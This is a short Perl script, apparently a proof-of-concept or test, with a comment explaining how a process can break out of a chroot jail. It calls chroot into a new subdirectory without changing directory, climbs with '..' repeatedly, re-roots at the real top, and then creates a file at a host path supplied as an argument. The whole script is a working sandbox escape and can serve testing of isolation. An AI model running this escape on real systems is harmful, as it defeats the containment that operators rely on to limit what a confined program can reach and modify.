# Out of a changed root directory.
#
# chroot(2) changes what "/" means, and nothing else. A program that calls it once more, and does not change its
# working directory, has that outside of its new root; from there ".." leads up and up. The kernel stops at the
# root of the mount namespace only.
#
# Argument: a file to make, by its path on the host.
use strict;
use warnings;

my ($file) = @ARGV;
print "inside: the root directory has inode ", (stat '/')[1], "\n";

mkdir 'below';
chroot 'below' or print "inside: chroot: $!\n";
for (1 .. 64) {
    chdir '..';
}
chroot '.';
print "inside: now the root directory has inode ", (stat '/')[1], "\n";

if (open my $made, '>', $file) {
    print "inside: made $file\n";
} else {
    print "inside: $file: $!\n";
}
